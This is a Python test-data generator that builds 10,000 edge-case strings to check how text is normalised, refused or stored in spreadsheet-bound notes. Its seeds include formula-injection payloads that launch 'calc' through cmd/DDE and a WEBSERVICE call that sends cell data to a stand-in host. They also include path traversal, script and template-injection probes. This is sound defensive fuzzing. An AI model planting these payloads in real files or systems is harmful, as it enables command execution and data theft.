"""Ten thousand texts that have broken other programs, and what may become of each.

The first are edges, each of a kind: every part of Unicode at its borders, all control characters,
formulas of four programs, escapes that spreadsheet programs read, words that they take for numbers,
dates and faults. The others are drawn from pieces of these, always the same.
"""

import random
import re
import unicodedata
from collections.abc import Iterator
from typing import Final

COUNT: Final = 10_000
LIMIT: Final = 30_000
"""UTF-16 units of an evidence note."""
_ODD: Final = 50
"""Of so many texts that are drawn, one may hold what is refused."""

_SIGNS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
    "{=",
    "'=",
)
_FORMULAS: Final = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","press")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.example/?"&A1)',
    'IMPORTXML("http://x.example","//a")',
    'DDE("cmd";"/C calc";"x")',
    "A1",
    "{1;2}",
    "",
)
_WORDS: Final = (
    *("#REF!", "#N/A", "#DIV/0!", "#NAME?", "Err:502", "TRUE", "FALSE", "WAHR", "007", "1e9"),
    *("1E+10", "-5", "+44 121 496 0000", "2026-11-23", "23/11/2026", "1/2", "12:30", "50 %", "£5"),
    *("NaN", "inf", "null", "None", "undefined", "'quoted", '"quoted"', '""', "''", "a;b", "a,b"),
    *("<script>alert(1)</script>", "]]>", "<![CDATA[x]]>", "&amp;", "&#0;", "&#x1F;", "<?xml ?>"),
    *("{{7*7}}", "%s%n", "{0}", "${x}", "../../etc/passwd", "C:\\x\\y", "\\", "\\n", "\\u0000"),
    *("_x000D_", "_x000A_", "_x0000_", "_x0041_", "_xD800_", "_xFFFF_", "_x005F_", "_x005f_"),
    *("_x005F_x000D_", "_X0041_", "_x9_", "_x00000041_", "__x0041__", "_x0041", "x0041_", "_x_"),
    *("مرحبا", "שלום", "\u202eabc\u202c", "👩🏽\u200d🎓", "e\u0301", "ﬁ", "ß", "İ", "\u1e9b\u0323"),
    *("\u00a0x\u00a0", "\ufeffx", "\u200bx", "a\u2028b", "a\u2029b", "a\x85b", "a\r\nb", "a\rb"),
    *(" both ends ", "tab\tinside", "a\n\n\nb", "a  b", "\u3000x"),
)
_LONG: Final = (
    "x" * LIMIT,
    "x" * (LIMIT + 1),
    "😀" * (LIMIT // 2),
    "😀" * (LIMIT // 2 + 1),
    "=1" * (LIMIT // 2),
    "_x0041_" * (LIMIT // 13),
    "_x0041_" * (LIMIT // 13 + 1),
    "<" * LIMIT,
    "line\n" * (LIMIT // 5),
    "x" * 32_767,
    "x" * 32_768,
)


def texts(count: int = COUNT) -> list[str]:
    """Return so many texts, no two of them alike."""
    draw = random.Random(67)  # noqa: S311  # a test's lot, no secret
    found = dict.fromkeys(_edges())
    pieces = [piece for piece in found if len(piece) < 60]
    good = [piece for piece in pieces if kept(sent(piece)) is not None]
    while len(found) < count:
        of = good if draw.randrange(_ODD) else pieces
        found["".join(draw.choice(of) for _ in range(draw.randrange(2, 7)))] = None
    return list(found)[:count]


def _edges() -> Iterator[str]:
    for start in range(0, 0x10000, 0x100):
        yield from (f"a{chr(point)}b" for point in (start, start + 1, start + 0xFE, start + 0xFF))
    for plane in range(1, 17):
        for point in (0, 1, 0xFFFD, 0xFFFE, 0xFFFF):
            yield f"a{chr(plane * 0x10000 + point)}b"
    for point in (*range(0x20), *range(0x7F, 0xA0)):
        yield from (f"a{chr(point)}b", f"{chr(point)}b", f"a{chr(point)}")
    yield from (f"a{chr(point)}b" for point in (0xD7FF, 0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xE000))
    yield from (f"{sign}{formula}" for sign in _SIGNS for formula in _FORMULAS)
    yield from _WORDS
    yield from _LONG


def sent(text: str) -> str:
    """Return a text as it arrives: half of a pair alone is no UTF-8, so no browser sends it."""
    return text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


_REFUSED: Final = re.compile("[\x00-\x08\x0e-\x1f\x7f\ufffe\uffff]")


def kept(text: str) -> str | None:
    """Return what is kept of a text, None where it is refused.

    What changes, and no more: letters are composed, line ends are one, blanks that keep a line
    together are plain, and those at both ends are gone.
    """
    text = re.sub("\r\n?|[\x0b\x0c\x85\u2028\u2029]", "\n", unicodedata.normalize("NFC", text))
    text = re.sub("[\u00a0\u2007\u202f]", " ", text).strip()
    # What a cell keeps of "_x" is longer by six.
    is_long = len(text.encode("utf-16-le", "surrogatepass")) // 2 + 6 * text.count("_x") > LIMIT
    return None if is_long or _REFUSED.search(text) else text
